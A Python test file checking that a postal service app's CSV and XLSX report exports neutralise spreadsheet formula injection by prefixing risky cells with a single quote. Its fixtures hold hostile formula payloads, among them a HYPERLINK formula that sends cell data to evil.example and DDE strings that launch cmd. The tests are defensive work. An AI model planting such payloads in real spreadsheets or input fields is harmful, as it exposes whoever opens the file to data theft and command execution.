"""Exports are safe to open: a name typed as a formula is shown as text, never run.

A supervisor opens the monthly report in Excel or LibreOffice. The agency, procedure and postman
names in it come from people (imports, admin forms); one of them was typed as a formula. Every
cell that begins with =, +, -, @, a tab or a carriage return must arrive neutralised (a leading
single quote, OWASP's rule), and no XLSX cell may be a formula. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from backend.exports import FORMULA_TRIGGERS, csv_bytes, safe_cell, sheet_append, xlsx_bytes
from backend.timeutil import local_today
from tests.kit.phone import Phone

HOSTILE = {
    "agency": '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "procedure": "+cmd|' /C calc'!A0",
    "postman": "@SUM(1+1)*cmd|' /C calc'!A0",
}
MORE_HOSTILE = ["-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_day(app, client, make):
    """A day's deliveries where every name that reaches a report was typed as a formula."""
    agency = make.agency(name=HOSTILE["agency"])
    procedure = make.procedure(name=HOSTILE["procedure"])
    postman = make.user("postman", full_name=HOSTILE["postman"])
    items = [make.item(agency_id=agency.id, procedure_id=procedure.id) for _ in range(2)]
    make.round(postman, items=items)
    phone = Phone(client, postman.username).login()
    phone.pull()
    phone.deliver(items[0].id, seed=1, government_fee_collected=5_000)
    phone.fail(items[1].id, reason="not_home")
    phone.sync()
    with app.app_context():
        today = local_today()
    return {"date_from": today.replace(day=1).isoformat(), "date_to": today.isoformat(), "period": "month"}


def _export(client, headers, query, group_by, fmt):
    response = client.get(
        "/api/reports/export", headers=headers, query_string={**query, "group_by": group_by, "format": fmt}
    )
    assert response.status_code == 200, response.get_json()
    return response


@pytest.mark.parametrize("group_by", ["agency", "procedure", "postman"])
def test_a_name_typed_as_a_formula_is_plain_text_in_the_csv(client, auth, make, hostile_day, group_by):
    headers = auth(make.user("supervisor"))

    table = list(
        csv.reader(
            io.StringIO(_export(client, headers, hostile_day, group_by, "csv").data.decode("utf-8-sig"))
        )
    )

    labels = [line[1] for line in table[1:]]
    assert "'" + HOSTILE[group_by] in labels
    for line in table:
        for value in line:
            assert not value.startswith(FORMULA_TRIGGERS), f"live cell {value!r}"


@pytest.mark.parametrize("group_by", ["agency", "procedure", "postman"])
def test_no_cell_of_the_xlsx_is_a_formula_and_the_figures_stay_numbers(
    client, auth, make, hostile_day, group_by
):
    headers = auth(make.user("supervisor"))

    book = load_workbook(io.BytesIO(_export(client, headers, hostile_day, group_by, "xlsx").data))

    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), f"live cell {cell.value!r}"
    sheet = book["Báo cáo"]
    names = [c.value for c in sheet[1]]
    row = dict(zip(names, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True))
    assert row[names[1]] == "'" + HOSTILE[group_by]
    assert row["Đã trả kết quả / Returned"] == 1 and isinstance(row["Đã trả kết quả / Returned"], int)
    assert row["Lệ phí đã thu (VND) / Government fees collected"] == 5_000


@pytest.mark.parametrize("text", [*HOSTILE.values(), *MORE_HOSTILE])
def test_every_formula_trigger_is_neutralised_in_both_formats(text):
    sheet_rows = [["name", "amount"], [text, -26_000], ["Xã Mong Thọ", 0]]

    table = list(csv.reader(io.StringIO(csv_bytes(sheet_rows).decode("utf-8-sig"), newline="")))
    workbook = Workbook()
    for line in sheet_rows:
        sheet_append(workbook.active, line)
    book = load_workbook(io.BytesIO(xlsx_bytes(workbook)))

    assert table[1] == ["'" + text, "-26000"]
    cell, amount = book.active["A2"], book.active["B2"]
    assert cell.data_type == "s" and cell.value[0] == "'"
    assert cell.value[1:] in (text, text.replace("\r", "\n"))  # XML reads a lone CR back as LF
    assert (amount.value, amount.data_type) == (-26_000, "n")  # a negative number stays a number
    assert book.active["A3"].value == "Xã Mong Thọ"  # ordinary text is left alone


def test_only_text_is_neutralised():
    assert [safe_cell(v) for v in (-5, -0.5, 0, None, "", "Trần Thị Lan", "a=b", "'=x")] == [
        -5,
        -0.5,
        0,
        None,
        "",
        "Trần Thị Lan",
        "a=b",
        "'=x",
    ]


def test_a_formula_that_slipped_past_the_writer_stops_the_export():
    workbook = Workbook()
    workbook.active["A1"] = "=1+1"  # written around sheet_append
    with pytest.raises(ValueError, match="formula cell"):
        xlsx_bytes(workbook)
